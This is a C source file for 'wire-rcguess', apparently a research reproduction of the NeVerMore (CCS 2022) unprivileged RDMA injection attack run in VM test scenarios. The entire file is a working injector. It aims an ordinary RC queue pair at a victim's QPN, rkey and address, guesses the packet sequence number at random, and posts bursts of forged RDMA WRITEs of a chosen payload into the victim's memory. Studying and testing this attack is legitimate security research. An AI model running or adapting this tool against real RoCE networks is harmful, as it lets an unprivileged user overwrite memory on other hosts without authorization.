/* wire-rcguess: the unprivileged injector of NeVerMore (CCS 2022), for the two-host scenarios.
 *
 * An ordinary process on a host of the RoCE network, with no privilege beyond opening the
 * verbs device (as distributions allow every user), creates an ordinary RC QP and aims it at a
 * victim QP: destination QPN, GID, rkey and address given, its own send PSN guessed. Each
 * attempt moves the QP from RESET to RTS with a fresh random PSN and posts BURST RDMA WRITEs
 * (consecutive PSNs) of the payload at the victim's region. The victim's responder executes a
 * write only if its PSN is the one it expects; it answers, if at all, to its own peer, so the
 * attacker's QP never hears back and each attempt ends with a transport retry error (the QP is
 * then reset for the next one).
 *
 *   wire-rcguess --qpn N --rkey N --addr N --dgid-ip A.B.C.D [--dev rxe0] [--gid-index 1]
 *                [--attempts N] [--burst K] [--len N] [--pattern STR] [--expect-psn N]
 *
 * --expect-psn only counts, afterwards, the writes that carried the PSN the victim expected
 * (each hit advances it by one, as the responder would); it never steers the guesses.
 * Prints one JSON object. Exit status 0 when every attempt ran, 1 on a verbs failure, 2 usage.
 *
 * Built by tests/vm/wire-scenarios.sh: cc -O2 -o wire-rcguess wire-rcguess.c -libverbs */
#include <arpa/inet.h>
#include <errno.h>
#include <getopt.h>
#include <inttypes.h>
#include <stdint.h>
#include <stdio.h>
#include <stdlib.h>
#include <string.h>
#include <sys/random.h>
#include <time.h>
#include <unistd.h>

#include <infiniband/verbs.h>

#define PSN_MASK  0xffffffu
#define MAX_BURST 64

struct opts {
	const char *dev;
	int gid_index;
	uint32_t qpn, rkey, len, burst, attempts;
	uint64_t addr;
	const char *pattern;
	struct in_addr dip;
	int have_qpn, have_rkey, have_addr, have_dip;
	long expect_psn; /* -1: not counted */
};

static void usage(void)
{
	fprintf(stderr, "usage: wire-rcguess --qpn N --rkey N --addr N --dgid-ip A.B.C.D "
			"[--dev DEV] [--gid-index N] [--attempts N] [--burst K] [--len N] "
			"[--pattern STR] [--expect-psn N]\n");
	exit(2);
}

static uint64_t num(const char *s, uint64_t max)
{
	char *end;
	unsigned long long v;

	errno = 0;
	v = strtoull(s, &end, 0);
	if (errno || end == s || *end || v > max) {
		fprintf(stderr, "wire-rcguess: bad number '%s'\n", s);
		exit(2);
	}
	return v;
}

static double now_s(void)
{
	struct timespec ts;

	clock_gettime(CLOCK_MONOTONIC, &ts);
	return (double)ts.tv_sec + (double)ts.tv_nsec / 1e9;
}

static int fail(const char *what, int err)
{
	printf("{\"ok\":false,\"error\":\"%s: %s\"}\n", what, strerror(err));
	return 1;
}

/* to_rts: RESET -> INIT -> RTR -> RTS aimed at the victim, with send PSN psn. */
static int to_rts(struct ibv_qp *qp, const struct opts *o, uint32_t psn)
{
	struct ibv_qp_attr a;
	int ret;

	memset(&a, 0, sizeof(a));
	a.qp_state = IBV_QPS_RESET;
	ret = ibv_modify_qp(qp, &a, IBV_QP_STATE);
	if (ret)
		return ret;
	memset(&a, 0, sizeof(a));
	a.qp_state = IBV_QPS_INIT;
	a.port_num = 1;
	ret = ibv_modify_qp(qp, &a,
			    IBV_QP_STATE | IBV_QP_PKEY_INDEX | IBV_QP_PORT | IBV_QP_ACCESS_FLAGS);
	if (ret)
		return ret;
	memset(&a, 0, sizeof(a));
	a.qp_state = IBV_QPS_RTR;
	a.path_mtu = IBV_MTU_1024;
	a.dest_qp_num = o->qpn;
	a.rq_psn = psn;
	a.min_rnr_timer = 1;
	a.ah_attr.is_global = 1;
	a.ah_attr.port_num = 1;
	a.ah_attr.grh.sgid_index = (uint8_t)o->gid_index;
	a.ah_attr.grh.hop_limit = 64;
	/* ::ffff:A.B.C.D */
	a.ah_attr.grh.dgid.raw[10] = 0xff;
	a.ah_attr.grh.dgid.raw[11] = 0xff;
	memcpy(&a.ah_attr.grh.dgid.raw[12], &o->dip, 4);
	ret = ibv_modify_qp(qp, &a,
			    IBV_QP_STATE | IBV_QP_AV | IBV_QP_PATH_MTU | IBV_QP_DEST_QPN |
				IBV_QP_RQ_PSN | IBV_QP_MAX_DEST_RD_ATOMIC | IBV_QP_MIN_RNR_TIMER);
	if (ret)
		return ret;
	memset(&a, 0, sizeof(a));
	a.qp_state = IBV_QPS_RTS;
	a.sq_psn = psn;
	a.timeout = 1; /* the shortest: the victim never answers us */
	a.retry_cnt = 0;
	a.rnr_retry = 0;
	return ibv_modify_qp(qp, &a,
			     IBV_QP_STATE | IBV_QP_SQ_PSN | IBV_QP_TIMEOUT | IBV_QP_RETRY_CNT |
				 IBV_QP_RNR_RETRY | IBV_QP_MAX_QP_RD_ATOMIC);
}

int main(int argc, char **argv)
{
	static const struct option lo[] = {
	    {"dev", required_argument, NULL, 'd'},
	    {"gid-index", required_argument, NULL, 'g'},
	    {"qpn", required_argument, NULL, 'q'},
	    {"rkey", required_argument, NULL, 'k'},
	    {"addr", required_argument, NULL, 'a'},
	    {"dgid-ip", required_argument, NULL, 'D'},
	    {"attempts", required_argument, NULL, 'n'},
	    {"burst", required_argument, NULL, 'b'},
	    {"len", required_argument, NULL, 'l'},
	    {"pattern", required_argument, NULL, 'p'},
	    {"expect-psn", required_argument, NULL, 'e'},
	    {NULL, 0, NULL, 0},
	};
	struct opts o = {.dev = "rxe0",
			 .gid_index = 1,
			 .len = 64,
			 .burst = 16,
			 .attempts = 1000,
			 .pattern = "NEVERMORE-FORGED!",
			 .expect_psn = -1};
	struct ibv_device **list;
	struct ibv_context *ctx = NULL;
	struct ibv_pd *pd;
	struct ibv_cq *cq;
	struct ibv_mr *mr;
	struct ibv_qp *qp;
	struct ibv_qp_init_attr qa;
	struct ibv_wc wc[MAX_BURST];
	uint64_t posted = 0, by_status[32] = {0}, hits = 0, stuck = 0;
	uint32_t expect;
	char *buf;
	double t0, secs;
	int c, i, n, ret;

	while ((c = getopt_long(argc, argv, "", lo, NULL)) != -1) {
		switch (c) {
		case 'd':
			o.dev = optarg;
			break;
		case 'g':
			o.gid_index = (int)num(optarg, 255);
			break;
		case 'q':
			o.qpn = (uint32_t)num(optarg, PSN_MASK);
			o.have_qpn = 1;
			break;
		case 'k':
			o.rkey = (uint32_t)num(optarg, UINT32_MAX);
			o.have_rkey = 1;
			break;
		case 'a':
			o.addr = num(optarg, UINT64_MAX);
			o.have_addr = 1;
			break;
		case 'D':
			o.have_dip = inet_pton(AF_INET, optarg, &o.dip) == 1;
			break;
		case 'n':
			o.attempts = (uint32_t)num(optarg, 100000000);
			break;
		case 'b':
			o.burst = (uint32_t)num(optarg, MAX_BURST);
			break;
		case 'l':
			o.len = (uint32_t)num(optarg, 1024);
			break;
		case 'p':
			o.pattern = optarg;
			break;
		case 'e':
			o.expect_psn = (long)num(optarg, PSN_MASK);
			break;
		default:
			usage();
		}
	}
	if (optind != argc || !o.have_qpn || !o.have_rkey || !o.have_addr || !o.have_dip ||
	    !o.burst || !*o.pattern)
		usage();
	expect = (uint32_t)o.expect_psn;

	list = ibv_get_device_list(NULL);
	for (i = 0; list && list[i]; i++)
		if (!strcmp(ibv_get_device_name(list[i]), o.dev))
			ctx = ibv_open_device(list[i]);
	if (!ctx)
		return fail("cannot open the device", errno ? errno : ENODEV);
	buf = malloc(o.len ? o.len : 1);
	for (uint32_t k = 0; k < o.len; k++)
		buf[k] = o.pattern[k % strlen(o.pattern)];
	pd = ibv_alloc_pd(ctx);
	cq = pd ? ibv_create_cq(ctx, MAX_BURST * 2, NULL, NULL, 0) : NULL;
	mr = cq ? ibv_reg_mr(pd, buf, o.len ? o.len : 1, 0) : NULL;
	if (!mr)
		return fail("cannot set up the PD, CQ and MR", errno);
	memset(&qa, 0, sizeof(qa));
	qa.send_cq = cq;
	qa.recv_cq = cq;
	qa.qp_type = IBV_QPT_RC;
	qa.cap.max_send_wr = MAX_BURST;
	qa.cap.max_recv_wr = 1;
	qa.cap.max_send_sge = 1;
	qa.cap.max_recv_sge = 1;
	qp = ibv_create_qp(pd, &qa);
	if (!qp)
		return fail("cannot create the RC QP", errno);

	t0 = now_s();
	for (uint32_t at = 0; at < o.attempts; at++) {
		uint32_t psn, done = 0;
		double t1;

		if (getrandom(&psn, sizeof(psn), 0) != sizeof(psn))
			return fail("getrandom", errno);
		psn &= PSN_MASK;
		ret = to_rts(qp, &o, psn);
		if (ret)
			return fail("cannot move the QP to RTS", ret);
		for (uint32_t w = 0; w < o.burst; w++) {
			struct ibv_sge sge = {
			    .addr = (uintptr_t)buf, .length = o.len, .lkey = mr->lkey};
			struct ibv_send_wr wr, *bad;

			memset(&wr, 0, sizeof(wr));
			wr.wr_id = w;
			wr.sg_list = &sge;
			wr.num_sge = o.len ? 1 : 0;
			wr.opcode = IBV_WR_RDMA_WRITE;
			wr.send_flags = IBV_SEND_SIGNALED;
			wr.wr.rdma.remote_addr = o.addr;
			wr.wr.rdma.rkey = o.rkey;
			ret = ibv_post_send(qp, &wr, &bad);
			if (ret)
				return fail("ibv_post_send", ret);
			posted++;
			if (o.expect_psn >= 0 && ((psn + w) & PSN_MASK) == expect) {
				hits++;
				expect = (expect + 1) & PSN_MASK;
			}
		}
		/* The first write times out, the rest are flushed in error. */
		t1 = now_s();
		while (done < o.burst) {
			n = ibv_poll_cq(cq, MAX_BURST, wc);
			if (n < 0)
				return fail("ibv_poll_cq", EIO);
			for (i = 0; i < n; i++)
				by_status[wc[i].status < 32 ? wc[i].status : 31]++;
			done += (uint32_t)n;
			if (!n && now_s() - t1 > 10) {
				stuck++;
				break;
			}
		}
	}
	secs = now_s() - t0;

	printf("{\"ok\":true,\"uid\":%u,\"attempts\":%" PRIu32 ",\"burst\":%" PRIu32
	       ",\"writes\":%" PRIu64 ",\"seconds\":%.3f,\"success\":%" PRIu64
	       ",\"retry_exceeded\":%" PRIu64 ",\"flushed\":%" PRIu64 ",\"other_errors\":%" PRIu64
	       ",\"stuck_attempts\":%" PRIu64 ",\"hits\":%" PRIu64 "}\n",
	       (unsigned)getuid(), o.attempts, o.burst, posted, secs, by_status[IBV_WC_SUCCESS],
	       by_status[IBV_WC_RETRY_EXC_ERR], by_status[IBV_WC_WR_FLUSH_ERR],
	       posted - by_status[IBV_WC_SUCCESS] - by_status[IBV_WC_RETRY_EXC_ERR] -
		   by_status[IBV_WC_WR_FLUSH_ERR],
	       stuck, hits);
	ibv_destroy_qp(qp);
	ibv_dereg_mr(mr);
	ibv_destroy_cq(cq);
	ibv_dealloc_pd(pd);
	ibv_close_device(ctx);
	ibv_free_device_list(list);
	free(buf);
	return 0;
}
